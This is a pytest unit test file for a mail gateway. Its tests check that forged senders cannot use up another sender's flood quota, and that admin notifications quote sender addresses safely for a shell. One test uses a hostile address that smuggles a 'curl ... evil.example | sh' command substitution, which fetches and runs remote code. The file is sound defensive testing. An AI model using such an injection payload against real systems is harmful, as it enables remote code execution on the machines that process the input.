"""Who would use up what another may send, or what an operator reads, by forging senders."""

import shlex
from dataclasses import replace

import pytest

from mailgate.store.database import Database
from mailgate.tickets.office import Floods
from tests.unit.bureau import ANNA, Gate, letter, office
from tests.unit.gateway.test_proof import TRUST

pytestmark = pytest.mark.attack("A25", "A68")

ADMIN = "admin@example.org"


def gate(database: Database) -> Gate:
    """Return a gateway that believes its own mail server, and lets three new tickets an hour in."""
    at = replace(office(), vouching=TRUST, admin=ADMIN, floods=Floods(3, 4))
    return Gate(database, at)


def sends(at: Gate, number: int, outcome: str, sender: str = ANNA) -> str:
    """Let somebody write as a sender; say what becomes of it. outcome: what our server found."""
    found = {"pass": "dmarc=pass", "fail": "dmarc=fail (p=reject)", "none": "dmarc=none"}[outcome]
    proof = (f"Authentication-Results: mx.example.com; {found}",)
    (result,) = at.receive(letter(sender, f"Nr {number}", headers=proof), mail_from=sender)
    return result.cause or result.verdict


@pytest.mark.parametrize(
    ("forged", "honest", "becomes"),
    [
        ("fail", "none", "open"),
        ("fail", "pass", "open"),
        ("none", "pass", "open"),
        ("none", "none", "flood"),
        ("fail", "fail", "flood"),
        ("pass", "none", "flood"),
    ],
)
def test_a_forger_uses_up_nothing_of_who_is_believed_more(
    database: Database, forged: str, honest: str, becomes: str
) -> None:
    """Mail counts against a sender only if it was believed as far as his own is."""
    at = gate(database)
    for number in range(6):
        sends(at, number, forged)
    assert sends(at, 9, honest) == becomes


def test_the_admin_may_copy_the_commands_whatever_the_sender_is_called(database: Database) -> None:
    """A shell runs nothing that a sender has chosen: these are all signs of an address."""
    at = gate(database)
    evil = "`curl${ifs}'evil.example'|sh`@evil.example"
    for number in range(5):
        sends(at, number, "none", evil)
    (told,) = [each for each in at.outbox() if each.event == "admin"]
    lines = [line.strip() for line in told.words.splitlines() if " --flood " in line]
    assert [shlex.split(line)[4] for line in lines] == [evil, evil]
